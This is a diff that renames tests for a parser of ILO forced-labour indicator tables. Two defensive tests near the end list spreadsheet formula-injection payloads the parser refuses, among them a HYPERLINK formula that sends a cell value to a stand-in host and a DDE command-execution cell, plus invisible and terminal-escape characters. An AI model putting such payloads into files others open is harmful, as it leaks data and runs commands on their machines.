@@ -1,4 +1,4 @@
-"""Indicator sets: the ILO's table is whole, the dimension rule keeps its laws, and a wrong table says where."""
+"""Tests of indicator sets: the ILO's table, the laws of the dimension rule, and the problems of wrong tables."""
 
 import pytest
 from hypothesis import given
@@ -45,7 +45,7 @@ def test_the_dimension_rule_is_the_ilos(strong: int, medium: int, weak: int, pos
     ("involuntariness", "penalty", "strong", "positive"),
     [(1, 1, 1, True), (1, 1, 0, False), (5, 0, 5, False), (0, 5, 5, False), (1, 1, 2, True), (3, 2, 0, False)],
 )
-def test_forced_labour_takes_involuntariness_and_a_penalty_and_one_of_them_strong(
+def test_forced_labour_needs_involuntariness_and_a_penalty_with_one_of_them_strong(
     involuntariness: int, penalty: int, strong: int, positive: bool
 ) -> None:
     counts = {"involuntariness": involuntariness, "penalty": penalty, "strong": strong}
@@ -69,14 +69,14 @@ def test_a_dimension_positive_at_min_is_positive_at_max(indicator_set: Indicator
         assert all(high[d].positive >= low[d].positive for d in indicator_set.dimensions)
 
 
-def test_a_code_means_the_same_in_every_set_that_ships() -> None:
+def test_a_code_has_the_same_meaning_in_every_set_of_the_release() -> None:
     meanings: dict[str, set[tuple[str, str, str]]] = {}
     for each in (row for indicator_set in SETS for row in indicator_set.indicators.values()):
         meanings.setdefault(each.code, set()).add((each.dimension, each.label_es, each.label_en))
     assert {code: found for code, found in meanings.items() if len(found) > 1} == {}
 
 
-def test_a_set_has_only_the_profiles_that_it_knows_about() -> None:
+def test_a_set_has_only_the_profiles_with_a_column_in_its_table() -> None:
     assert ILO.profiles == ("adult_labour", "child_labour", "adult_sexual", "child_sexual")
     assert ILO.members("site", "D5", "strong") == ILO.strong("adult_forced_labour") == ()
     assert ILO.used("site") == ILO.family("X")
@@ -100,13 +100,13 @@ def test_a_strength_belongs_to_profile_and_dimension() -> None:
     assert "D4.06" not in ILO.used("child_labour")
 
 
-def test_bright_lines_stand_beside_the_dimensions() -> None:
+def test_bright_lines_count_in_no_dimension() -> None:
     assert {"X.01", "X.02", "X.03"} <= set(ILO.used("adult_labour"))
     assert not any(sum(tally.counts.values()) for tally in count_tallies(["X.01"], ILO, "child_labour").values())
     assert not any(code.startswith("X") for profile in ILO.profiles for code in ILO.strong(profile))
 
 
-def test_every_indicator_speaks_both_languages_of_reporting_and_shows_its_provenance() -> None:
+def test_every_indicator_serves_both_kinds_of_report_and_has_a_provenance() -> None:
     used = {mapped for indicator in ILO.indicators.values() for mapped in indicator.forced_labour}
     assert used == set(FORCED_LABOUR)
     assert len(FORCED_LABOUR) == 11
@@ -114,7 +114,7 @@ def test_every_indicator_speaks_both_languages_of_reporting_and_shows_its_proven
 
 
 @pytest.mark.parametrize("name", BUILT_IN.indicator_sets)
-def test_a_set_survives_the_bundle(name: str) -> None:
+def test_a_set_round_trips_through_json(name: str) -> None:
     assert indicator_set_from_dict(BUILT_IN.indicator_set(name).as_dict()) == BUILT_IN.indicator_set(name)
 
 
@@ -134,7 +134,7 @@ def test_a_set_survives_the_bundle(name: str) -> None:
         (f"{ROW}\n{ROW}", "duplicate_code", "code"),
     ],
 )
-def test_a_wrong_row_is_named_with_line_and_column(row: str, code: str, column: str) -> None:
+def test_a_problem_names_the_line_and_the_column_of_the_wrong_row(row: str, code: str, column: str) -> None:
     with pytest.raises(FormError) as caught:
         parse_indicator_set("x", f"{HEADING}\n{row}\n")
     problem = caught.value.problems[0]
@@ -144,14 +144,14 @@ def test_a_wrong_row_is_named_with_line_and_column(row: str, code: str, column: 
     assert problem.advice_en
 
 
-def test_all_wrong_rows_are_named_at_once() -> None:
+def test_all_wrong_rows_are_reported_at_once() -> None:
     bad = ROW.replace("D1.01", "Q")
     with pytest.raises(FormError) as caught:
         parse_indicator_set("x", f"{HEADING}\n{bad}\n{ROW}\n{bad.replace('Q', 'R')}\n")
     assert [problem.row for problem in caught.value.problems] == [2, 4]
 
 
-def test_missing_columns_and_unknown_sets_are_named() -> None:
+def test_missing_columns_and_unknown_sets_are_reported_by_name() -> None:
     with pytest.raises(FormError, match="forced_labour"):
         parse_indicator_set("x", HEADING.replace(",forced_labour", "") + "\n")
     with pytest.raises(FormError, match="ilo_delphi_2009"):
@@ -165,13 +165,13 @@ def test_missing_columns_and_unknown_sets_are_named() -> None:
         (HEADING.replace(",adult_labour,child_labour", ""), ROW.replace(",S,W", ""), "no_profile", ""),
     ],
 )
-def test_a_profile_that_is_misspelt_or_missing_is_named(heading: str, row: str, code: str, column: str) -> None:
+def test_a_misspelt_or_missing_profile_is_reported_by_name(heading: str, row: str, code: str, column: str) -> None:
     with pytest.raises(FormError) as caught:
         parse_indicator_set("x", f"{heading}\n{row}\n")
     assert [(p.code, p.row, p.column) for p in caught.value.problems] == [(f"indicator_set.{code}", 1, column)]
 
 
-def test_a_table_saved_by_a_spreadsheet_set_to_spanish_is_read_alike() -> None:
+def test_a_table_with_semicolons_from_a_spanish_spreadsheet_is_read_the_same() -> None:
     plain = f"{HEADING}\n{ROW}\n{FORCED}\n"
     assert parse_indicator_set("x", "\ufeff" + plain.replace(",", ";")) == parse_indicator_set("x", plain)
 
@@ -179,7 +179,7 @@ def test_a_table_saved_by_a_spreadsheet_set_to_spanish_is_read_alike() -> None:
 @pytest.mark.parametrize(
     "cell", ['=HYPERLINK(""http://x.example/?""&A2,""ver"")', "=cmd|' /C calc'!A0", " +1", "-1", "@a"]
 )
-def test_no_cell_of_a_table_is_a_formula_to_whoever_opens_it(cell: str) -> None:
+def test_a_cell_that_a_spreadsheet_reads_as_a_formula_is_rejected(cell: str) -> None:
     for row in (ROW.replace("Engaño", f'"{cell}"'), f'{ROW},"{cell}"'):
         with pytest.raises(FormError) as refused:
             parse_indicator_set("x", f"{HEADING}\n{row}\n")
@@ -187,7 +187,7 @@ def test_no_cell_of_a_table_is_a_formula_to_whoever_opens_it(cell: str) -> None:
 
 
 @pytest.mark.parametrize("sign", ["\x1b", "\x9b", "\u202e", "\u200b"])
-def test_no_cell_of_a_table_holds_a_sign_that_a_reviewer_would_not_see(sign: str) -> None:
+def test_a_cell_with_an_invisible_character_is_rejected(sign: str) -> None:
     with pytest.raises(FormError) as refused:
         parse_indicator_set("x", f"{HEADING}\n{ROW.replace('Engaño', f'Engaño{sign}[2K')}\n")
     (problem,) = refused.value.problems
